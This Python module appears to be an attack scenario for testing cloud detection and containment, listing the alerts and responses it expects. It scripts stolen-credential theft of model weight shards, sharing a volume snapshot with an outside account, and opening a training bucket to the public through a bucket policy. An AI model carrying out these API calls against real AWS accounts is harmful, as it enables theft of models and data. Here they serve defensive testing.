"""An attacker on the inference host reads its role's credentials and takes the model from elsewhere.

He lists the buckets, reads shards of the weights, snapshots the host's volumes and shares a snapshot with an account
of his own, then opens the training bucket to the world and reads it without credentials. Before and meanwhile the
serving role loads its model and the retraining role reads its data, as on any day.
"""

import json
from collections.abc import Iterator
from typing import Any

from stanch.contracts.aws import Aws, AwsDenied, AwsError
from stanch.contracts.scenario import Attempt, Must, World

MUST = Must(
    detect=(
        "credential_access/instance_credentials_used_away",
        "exfiltration/weights_read_by_stranger",
        "exfiltration/snapshot_shared",
        "exfiltration/bucket_opened_by_policy",
    ),
    contain=(
        "ec2/snapshot_volumes",
        "ec2/isolate_instance",
        "iam/revoke_sessions",
        "s3/close_bucket",
        "ec2/unshare_snapshot",
    ),
)

_LOADS = 3
_TAKEN_FIRST = 2 / 3
"""The share of the shards that the attacker gets before he is stopped."""


def routine(world: World) -> Iterator[Attempt]:
    """Two hosts load the whole model; the retraining role reads its tickets."""
    for _ in range(_LOADS):
        yield from _read_all(world.load(), "the first host", world.weights_bucket, world.weights_prefix)
        yield from _read_all(world.serve(), "the second host", world.weights_bucket, world.weights_prefix)
        yield from _read_all(world.retrain(), "the retraining job", world.training_bucket, "")


def strike(world: World) -> Iterator[Attempt]:
    """The theft, in the order in which such thefts are done."""
    thief = world.steal()
    yield _try(thief, "the attacker", "lists the buckets", "s3", "ListBuckets")
    shards = _shards(thief, world)
    for key in shards[: round(len(shards) * _TAKEN_FIRST)]:
        yield _get(thief, "the attacker", world.weights_bucket, key)
    yield from _share_a_snapshot(thief, world)
    yield _try(
        thief,
        "the attacker",
        "removes Block Public Access from the training bucket",
        "s3",
        "DeletePublicAccessBlock",
        Bucket=world.training_bucket,
    )
    yield _open(thief, world)
    for key in _keys(world.stranger(), world.training_bucket, "")[:2]:
        yield _get(world.stranger(), "a stranger without credentials", world.training_bucket, key)


def retry(world: World) -> Iterator[Attempt]:
    """The same stolen session goes on where it was stopped; the stranger comes back."""
    thief = world.steal_again()
    for key in world.shards[round(len(world.shards) * _TAKEN_FIRST) :]:
        yield _get(thief, "the attacker", world.weights_bucket, key)
    yield _open(thief, world)
    yield _get(world.stranger(), "a stranger without credentials", world.training_bucket, world.training_keys[0])


def live_on(world: World) -> Iterator[Attempt]:
    """A fresh session of the serving role on another host loads the model; retraining goes on."""
    yield from _read_all(world.serve(), "the second host", world.weights_bucket, world.weights_prefix)
    yield from _read_all(world.retrain(), "the retraining job", world.training_bucket, "")


def _share_a_snapshot(thief: Aws, world: World) -> Iterator[Attempt]:
    volume = world.host_volumes[0]
    try:
        snapshot = thief.call("ec2", "CreateSnapshot", VolumeId=volume)["SnapshotId"]
    except AwsDenied as error:
        yield Attempt("the attacker", f"snapshots {volume}", allowed=False, code=error.code)
        return
    yield Attempt("the attacker", f"snapshots {volume}", allowed=True)
    yield _try(
        thief,
        "the attacker",
        f"shares the snapshot with account {world.outside_account}",
        "ec2",
        "ModifySnapshotAttribute",
        SnapshotId=snapshot,
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[world.outside_account],
    )


def _open(thief: Aws, world: World) -> Attempt:
    bucket = f"arn:{thief.partition}:s3:::{world.training_bucket}"
    policy = {
        "Version": "2012-10-17",
        "Statement": [
            *world.training_policy.get("Statement", []),
            {
                "Sid": "Analytics",
                "Effect": "Allow",
                "Principal": "*",
                "Action": ["s3:GetObject", "s3:ListBucket"],
                "Resource": [bucket, f"{bucket}/*"],
            },
        ],
    }
    return _try(
        thief,
        "the attacker",
        "opens the training bucket to the world",
        "s3",
        "PutBucketPolicy",
        Bucket=world.training_bucket,
        Policy=json.dumps(policy),
    )


def _shards(aws: Aws, world: World) -> list[str]:
    keys = _keys(aws, world.weights_bucket, world.weights_prefix)
    return [key for key in keys if key.endswith(".safetensors")]


def _keys(aws: Aws, bucket: str, prefix: str) -> list[str]:
    listed = aws.pages("s3", "ListObjectsV2", "Contents", Bucket=bucket, Prefix=prefix)
    return [str(item["Key"]) for item in listed]


def _read_all(aws: Aws, who: str, bucket: str, prefix: str) -> Iterator[Attempt]:
    for key in _keys(aws, bucket, prefix):
        yield _get(aws, who, bucket, key)


def _get(aws: Aws, who: str, bucket: str, key: str) -> Attempt:
    what = f"reads {bucket}/{key}"
    try:
        body = aws.call("s3", "GetObject", Bucket=bucket, Key=key)["Body"]
    except AwsError as error:
        return Attempt(who, what, allowed=False, code=error.code)
    return Attempt(who, what, allowed=True, bytes=len(body))


def _try(aws: Aws, who: str, what: str, service: str, operation: str, **params: Any) -> Attempt:
    try:
        aws.call(service, operation, **params)
    except AwsError as error:
        return Attempt(who, what, allowed=False, code=error.code)
    return Attempt(who, what, allowed=True)
